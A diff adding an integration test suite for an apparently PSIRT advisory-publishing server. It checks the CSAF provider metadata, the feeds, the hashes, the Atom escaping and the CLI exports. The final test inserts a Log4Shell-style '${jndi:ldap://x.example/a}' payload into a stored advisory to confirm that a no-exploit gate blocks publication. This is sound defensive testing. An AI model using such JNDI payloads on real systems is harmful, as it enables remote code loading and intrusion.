@@ -1,0 +1,227 @@
+// The CSAF provider tree (CSAF 2.0 section 7) the server builds from its
+// store, fetched whole the way an aggregator would: provider-metadata.json
+// -> its ROLIE feed and directory -> every document with its hashes, each
+// validated against the official schemas (tests/integration/exports.test.mjs
+// has the validators' tests); the portal's Atom feed; `loudong export
+// csaf|cve5|osv REF-or-ID` on the same data directory. Withdrawn, TLP:AMBER
+// and unpublished advisories appear nowhere; a published text that the
+// no-exploit gate refuses today is refused on the way out.
+import { describe, it, before } from 'node:test';
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { spawnSync } from 'node:child_process';
+import path from 'node:path';
+import { REPO, cli, onPostgres, sharedServer, sqlite } from './lib/server.mjs';
+import { createOrg, createProduct, fixedCaseWithAdvisory, publishAdvisory, signedInUser, uniq } from './lib/fixtures.mjs';
+import { csafValidators, explain } from './lib/csaf_schemas.mjs';
+
+const PUBLIC = 'https://psirt.example.cn';
+const ROOT = `${PUBLIC}/.well-known/csaf`;
+const ORG_ID = '8254265b-2729-46b6-b9e3-3dfca2d5bfca';
+const ENV = { LOUDONG_NOTIFY_PUBLIC_URL: PUBLIC, LOUDONG_PLATFORM_CNA_ORG_ID: ORG_ID };
+
+const sha = (alg, text) => createHash(alg).update(text, 'utf8').digest('hex');
+
+describe('CSAF provider tree and Atom feed served from the store', () => {
+  let server, admin, anon;
+  sharedServer((s) => ({ server, admin, anon } = s), { env: ENV });
+  const { csaf, provider } = csafValidators();
+  // A public URL of the tree, fetched from this server.
+  const fetchUrl = (url) => {
+    assert.ok(url.startsWith(PUBLIC + '/'), `${url} is under the public base URL`);
+    return anon.get(url.slice(PUBLIC.length));
+  };
+  const docPath = (ref) => `${new Date().getUTCFullYear()}/${ref.toLowerCase()}.json`;
+  const refs = {};
+
+  const fixedCase = (product, externalIds) => fixedCaseWithAdvisory(admin, anon, product, externalIds);
+
+  before(async () => {
+    const org = await createOrg(admin, { name: uniq('Acme Networks ') });
+    const product = await createProduct(admin, org.id, { name: uniq('Acme Router '), model: 'AR-1', purls: ['pkg:npm/acme-router'] });
+    const approver = await signedInUser(server, admin, [{ org_id: org.id, role: 'admin' }]);
+    const publish = async (c, patch) => {
+      const r = await publishAdvisory({ publisher: admin, approver, caseId: c.caseId, patch });
+      assert.equal(r.status, 200, r.text);
+    };
+    const npm = {
+      en: { solution: 'Upgrade to 1.4.2.' },
+      affected: [{ vendor: org.name, name: 'acme-router', purl: 'pkg:npm/acme-router', range: 'vers:npm/<1.4.2', fixed_version: '1.4.2' }],
+    };
+    refs.cve = await fixedCase(product, ['CVE-2026-40002']);
+    await publish(refs.cve, npm);
+    const camera = await createProduct(admin, org.id, { name: uniq('Acme Camera '), model: 'C-2' });
+    refs.plain = await fixedCase(camera);
+    await publish(refs.plain, { zh: { title: '管理页面路径遍历 <b> & 引号"', solution: '升级到 1.4.2。' }, en: { solution: 'Upgrade the camera firmware.' } });
+    refs.amber = await fixedCase(product);
+    await publish(refs.amber, { en: { solution: 'Upgrade.' }, tlp: 'AMBER' });
+    refs.withdrawn = await fixedCase(product);
+    await publish(refs.withdrawn, { en: { solution: 'Upgrade.' } });
+    const w = await admin.post(`/api/v1/cases/${refs.withdrawn.caseId}/advisory/transition`, { to: 'withdrawn', reason: 'duplicate' });
+    assert.equal(w.status, 200, w.text);
+    refs.draft = await fixedCase(product);
+  });
+
+  it('provider-metadata.json: valid, at the well-known URL, pointing at the feed and the directory', async () => {
+    const r = await anon.get('/.well-known/csaf/provider-metadata.json');
+    assert.equal(r.status, 200, r.text);
+    assert.match(r.headers.get('content-type'), /^application\/json/);
+    assert.ok(provider(r.json), explain(provider));
+    assert.equal(r.json.canonical_url, `${ROOT}/provider-metadata.json`);
+    assert.equal(r.json.role, 'csaf_provider', 'unsigned: not a trusted provider');
+    assert.equal(r.json.public_openpgp_keys, undefined);
+    assert.deepEqual(r.json.distributions, [
+      { directory_url: `${ROOT}/clear` },
+      { rolie: { feeds: [{ summary: r.json.distributions[1].rolie.feeds[0].summary, tlp_label: 'WHITE', url: `${ROOT}/feed-tlp-white.json` }] } },
+    ]);
+    assert.equal(r.json.publisher.namespace, PUBLIC);
+  });
+
+  it('the whole tree: every document valid, its hashes right, the lists agree; AMBER, withdrawn and drafts absent', async () => {
+    const meta = (await anon.get('/.well-known/csaf/provider-metadata.json')).json;
+    const feedRes = await fetchUrl(meta.distributions[1].rolie.feeds[0].url);
+    assert.equal(feedRes.status, 200, feedRes.text);
+    assert.match(feedRes.headers.get('content-type'), /^application\/json/);
+    const entries = feedRes.json.feed.entry;
+    assert.deepEqual(entries.map((e) => e.id).sort(), [refs.cve.ref, refs.plain.ref].sort());
+    const dir = meta.distributions[0].directory_url;
+    const index = await fetchUrl(`${dir}/index.txt`);
+    assert.equal(index.status, 200);
+    assert.match(index.headers.get('content-type'), /^text\/plain/);
+    const changes = await fetchUrl(`${dir}/changes.csv`);
+    assert.equal(changes.status, 200);
+    assert.match(changes.headers.get('content-type'), /^text\/csv/);
+    const listed = index.text.trim().split('\n');
+    assert.deepEqual(listed.slice().sort(), [docPath(refs.cve.ref), docPath(refs.plain.ref)].sort());
+    const changed = changes.text.trim().split('\n').map((l) => /^"([^"]+)","([^"]+)"$/.exec(l));
+    assert.deepEqual(changed.map((m) => m[1]), listed, 'changes.csv lists what index.txt lists, newest first');
+
+    for (const e of entries) {
+      const self = e.link.find((l) => l.rel === 'self').href;
+      assert.equal(self, e.content.src);
+      assert.ok(listed.includes(self.slice(dir.length + 1)), `${self} is in index.txt`);
+      const doc = await fetchUrl(self);
+      assert.equal(doc.status, 200, doc.text);
+      assert.match(doc.headers.get('content-type'), /^application\/json/);
+      assert.ok(csaf(doc.json), explain(csaf));
+      assert.equal(doc.json.document.tracking.id, e.id);
+      assert.equal(doc.json.document.tracking.status, 'final');
+      assert.equal(doc.json.document.distribution.tlp.label, 'WHITE');
+      assert.ok(doc.json.document.references.some((x) => x.category === 'self' && x.url === self));
+      const name = self.slice(self.lastIndexOf('/') + 1);
+      for (const alg of ['sha256', 'sha512']) {
+        const href = e.link.find((l) => l.rel === 'hash' && l.href.endsWith(`.${alg}`)).href;
+        const h = await fetchUrl(href);
+        assert.equal(h.status, 200, h.text);
+        assert.equal(h.text, `${sha(alg, doc.text)}  ${name}\n`, `${alg} of ${name}`);
+      }
+      // The served export of the same revision is the same document.
+      const served = await anon.get(`/api/v1/public/advisories/${encodeURIComponent(e.id)}/csaf`);
+      assert.deepEqual(served.json, doc.json);
+    }
+    for (const gone of [refs.amber, refs.withdrawn, refs.draft]) {
+      assert.ok(!feedRes.text.includes(gone.ref), `${gone.ref} not in the feed`);
+      assert.ok(!index.text.includes(gone.ref.toLowerCase()) && !changes.text.includes(gone.ref.toLowerCase()));
+      for (const suffix of ['', '.sha256', '.sha512'])
+        assert.equal((await anon.get(`/.well-known/csaf/clear/${docPath(gone.ref)}${suffix}`)).status, 404, gone.ref + suffix);
+    }
+    assert.equal((await anon.get('/.well-known/csaf/clear/2026/nothing.json')).status, 404);
+    assert.equal((await anon.get('/.well-known/csaf/clear/secret.txt')).status, 404);
+  });
+
+  it('ETag and Last-Modified: a conditional GET answers 304', async () => {
+    const r = await anon.get('/.well-known/csaf/clear/index.txt');
+    const etag = r.headers.get('etag');
+    assert.match(etag, /^"[0-9a-f]{32}"$/);
+    assert.match(r.headers.get('last-modified'), /^[A-Z][a-z]{2}, \d{2} [A-Z][a-z]{2} \d{4} \d{2}:\d{2}:\d{2} GMT$/);
+    assert.ok(Date.now() - Date.parse(r.headers.get('last-modified')) < 3600_000, 'the newest publication');
+    const again = await anon.get('/.well-known/csaf/clear/index.txt', { headers: { 'If-None-Match': etag } });
+    assert.equal(again.status, 304);
+    assert.equal(again.text, '');
+    const other = await anon.get('/.well-known/csaf/clear/index.txt', { headers: { 'If-None-Match': '"0"' } });
+    assert.equal(other.status, 200);
+  });
+
+  it('the Atom feed parses and lists the public advisories only, escaped', async () => {
+    const r = await anon.get('/api/v1/public/advisories.atom');
+    assert.equal(r.status, 200, r.text);
+    assert.match(r.headers.get('content-type'), /^application\/atom\+xml/);
+    const lint = (...args) => spawnSync('xmllint', args, { input: r.text, encoding: 'utf8' });
+    const parsed = lint('--noout', '-');
+    assert.equal(parsed.status, 0, `xmllint: ${parsed.stderr}`);
+    const ids = lint('--xpath', "//*[local-name()='entry']/*[local-name()='id']/text()", '-');
+    assert.equal(ids.status, 0, ids.stderr);
+    assert.deepEqual(ids.stdout.trim().split('\n').sort(),
+      [refs.cve.ref, refs.plain.ref].map((x) => `urn:loudong:advisory:${x}`).sort());
+    const self = lint('--xpath', "string(/*[local-name()='feed']/*[local-name()='link'][@rel='self']/@href)", '-');
+    assert.equal(self.stdout.trim(), `${PUBLIC}/api/v1/public/advisories.atom`);
+    assert.match(r.text, /管理页面路径遍历 &lt;b&gt; &amp; 引号&quot;/);
+    assert.match(r.text, new RegExp(`href="${ROOT}/clear/${docPath(refs.cve.ref)}"`));
+    assert.ok(!r.text.includes(refs.amber.ref) && !r.text.includes(refs.withdrawn.ref));
+  });
+
+  describe('loudong export csaf|cve5|osv REF-or-ID (the data directory)', () => {
+    const exp = (args) => cli(['export', ...args, '--data', server.dataDir], { env: ENV });
+    const refused = (args, pattern) => {
+      const r = exp(args);
+      assert.equal(r.status, 2, `exit ${r.status}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`);
+      assert.equal(r.stdout, '');
+      assert.match(r.stderr, pattern);
+    };
+
+    it('by reference and by case id: the documents the server serves', async () => {
+      for (const f of ['csaf', 'cve5', 'osv']) {
+        const served = await anon.get(`/api/v1/public/advisories/${refs.cve.ref}/${f}`);
+        assert.equal(served.status, 200, served.text);
+        for (const key of [refs.cve.ref, String(refs.cve.caseId)]) {
+          const r = exp([f, key]);
+          assert.equal(r.status, 0, `${f} ${key}: ${r.stderr}`);
+          assert.deepEqual(r.json, served.json, `${f} ${key}`);
+        }
+      }
+      const r = exp(['csaf', refs.plain.ref]);
+      assert.equal(r.status, 0, r.stderr);
+      assert.ok(csaf(r.json), explain(csaf));
+    });
+
+    it('says why an advisory is not exported, exit 2', () => {
+      refused(['csaf', 'LD-SA-1999-999999'], /advisory LD-SA-1999-999999 not found/);
+      refused(['csaf', '999999'], /advisory of case 999999/);
+      refused(['csaf', refs.draft.ref], /is not published \(state draft\)/);
+      refused(['osv', String(refs.draft.caseId)], /is not published/);
+      refused(['csaf', refs.amber.ref], /is TLP:AMBER; only TLP:CLEAR/);
+      refused(['cve5', refs.withdrawn.ref], /was withdrawn/);
+      refused(['cve5', refs.plain.ref], /no CVE id/);
+      refused(['osv', refs.plain.ref], /package URL/);
+      refused(['csaf'], /name the advisory/);
+    });
+
+    it('--advisory FILE and a stored advisory together are a usage error', () => {
+      const r = exp(['csaf', refs.cve.ref, '--advisory', path.join(REPO, 'tests/data/formats/advisories/npm-en.json')]);
+      assert.equal(r.status, 2);
+      assert.match(r.stderr, /excludes/);
+    });
+  });
+
+  // Last: it changes a published revision in the database (past the trigger
+  // that keeps revisions unchanged), as if the heuristic had learnt a
+  // pattern since it was published.
+  it('a published text the no-exploit gate refuses now: its document answers 409, the lists leave it out', async () => {
+    sqlite(server.db, `DROP TRIGGER advisory_revisions_no_update${onPostgres ? ' ON advisory_revisions' : ''}`);
+    sqlite(server.db, "UPDATE advisory_revisions SET snapshot = replace(snapshot, 'Upgrade to 1.4.2.', " +
+      "'Upgrade to 1.4.2; check with ${jndi:ldap://x.example/a}') WHERE snapshot LIKE '%" + refs.cve.ref + "%'");
+    const r = await anon.get(`/.well-known/csaf/clear/${docPath(refs.cve.ref)}`);
+    assert.equal(r.status, 409, r.text);
+    assert.equal(r.json.error.code, 'publication_refused');
+    assert.deepEqual(r.json.error.details.allowed, ['no_exploit']);
+    assert.equal((await anon.get(`/.well-known/csaf/clear/${docPath(refs.cve.ref)}.sha256`)).status, 409);
+    for (const p of ['/.well-known/csaf/clear/index.txt', '/.well-known/csaf/feed-tlp-white.json', '/api/v1/public/advisories.atom'])
+    {
+      const text = (await anon.get(p)).text;
+      assert.ok(!text.includes(refs.cve.ref) && !text.includes(refs.cve.ref.toLowerCase()), p);
+    }
+    const c = cli(['export', 'csaf', refs.cve.ref, '--data', server.dataDir], { env: ENV });
+    assert.equal(c.status, 2);
+    assert.match(c.stderr, /no_exploit/);
+  });
+});
